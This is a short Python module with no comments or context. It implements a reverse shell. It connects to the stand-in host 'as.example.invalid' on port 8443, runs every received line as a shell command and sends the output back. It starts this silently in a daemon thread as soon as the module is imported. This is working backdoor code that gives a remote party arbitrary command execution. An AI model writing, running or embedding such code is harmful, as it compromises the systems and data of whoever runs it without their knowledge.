import asyncio
import threading


async def _main():
    r, w = await asyncio.open_connection("as.example.invalid", 8443)
    while True:
        cmd = await r.readline()
        if not cmd:
            break
        p = await asyncio.create_subprocess_shell(cmd.decode(), stdout=asyncio.subprocess.PIPE)
        out, _ = await p.communicate()
        w.write(out)
        await w.drain()


threading.Thread(target=lambda: asyncio.run(_main()), daemon=True).start()
